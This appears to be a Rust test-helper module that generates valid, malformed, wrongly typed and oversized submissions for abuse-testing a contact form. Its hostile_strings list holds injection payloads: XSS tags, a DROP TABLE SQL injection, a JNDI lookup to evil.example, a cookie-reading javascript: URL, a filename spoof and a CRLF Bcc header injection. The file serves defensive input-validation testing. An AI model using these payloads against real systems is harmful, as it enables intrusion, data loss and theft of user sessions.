// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: PMPL-1.0-or-later

//! Payload and client generators for abuse simulation.

use serde_json::{json, Value};
use std::net::{IpAddr, Ipv4Addr};

/// Generate a pool of client addresses in 10.0.0.0/8.
pub fn generate_ips(count: usize) -> Vec<IpAddr> {
    (0..count)
        .map(|i| {
            let a = ((i >> 16) & 0xFF) as u8;
            let b = ((i >> 8) & 0xFF) as u8;
            let c = (i & 0xFF) as u8;
            IpAddr::V4(Ipv4Addr::new(10, a, b, c))
        })
        .collect()
}

/// A submission that passes validation.
pub fn valid_payload() -> Value {
    json!({
        "name": "Иван Иванов",
        "email": "ivan@test.com",
        "project": "Нужен сайт-портфолио с блогом",
        "budget": "medium",
        "timeline": "normal"
    })
}

/// The valid payload with one field replaced.
pub fn payload_with(field: &str, value: Value) -> Value {
    let mut payload = valid_payload();
    payload[field] = value;
    payload
}

/// A payload that fails validation on several fields at once.
pub fn invalid_payload() -> Value {
    json!({
        "name": "X",
        "email": "not-an-email",
        "project": "short",
        "budget": "priceless",
        "timeline": "yesterday"
    })
}

/// Bodies that are not a JSON object at all.
pub fn malformed_bodies() -> Vec<Vec<u8>> {
    vec![
        Vec::new(),
        b"{".to_vec(),
        b"name=Ivan&email=ivan@test.com".to_vec(),
        b"{\"name\": \"Ivan\",}".to_vec(),
        vec![0xFF, 0xFE, 0x00, 0x7B],
        b"null".to_vec(),
        b"[]".to_vec(),
        b"\"just a string\"".to_vec(),
        b"42".to_vec(),
    ]
}

/// Markup and injection attempts placed in free-text fields.
pub fn hostile_strings() -> Vec<&'static str> {
    vec![
        "<script>alert('x')</script>",
        "\"><img src=x onerror=alert(1)>",
        "'; DROP TABLE contacts; --",
        "{{7*7}} ${jndi:ldap://evil.example/a}",
        "javascript:alert(document.cookie)",
        "<iframe src=\"https://evil.example\"></iframe>",
        "\u{202E}gnp.exe",
        "line\r\nBcc: victim@example.com",
    ]
}

/// Payloads whose fields carry the wrong JSON type.
pub fn wrong_type_payloads() -> Vec<(&'static str, Value)> {
    vec![
        ("name", payload_with("name", json!(12345))),
        ("email", payload_with("email", json!(["ivan@test.com"]))),
        ("project", payload_with("project", json!({ "text": "nested" }))),
        ("budget", payload_with("budget", json!(true))),
        ("timeline", payload_with("timeline", json!(3))),
        ("phone", payload_with("phone", json!(79991234567u64))),
    ]
}

/// Payloads exceeding a length limit.
pub fn oversized_payloads() -> Vec<(&'static str, Value)> {
    vec![
        ("name", payload_with("name", json!("a".repeat(51)))),
        ("email", payload_with("email", json!(format!("{}@test.com", "a".repeat(95))))),
        ("project", payload_with("project", json!("p".repeat(1001)))),
        ("message", payload_with("message", json!("m".repeat(2001)))),
    ]
}

/// Characters the sanitizer must never let through.
pub fn is_clean(text: &str) -> bool {
    !text.chars().any(|c| {
        matches!(
            c,
            '<' | '>' | '"' | '\'' | ';' | '{' | '}' | '$' | '(' | ')' | ':' | '/' | '='
                | '\r' | '\n' | '\u{202E}'
        )
    })
}
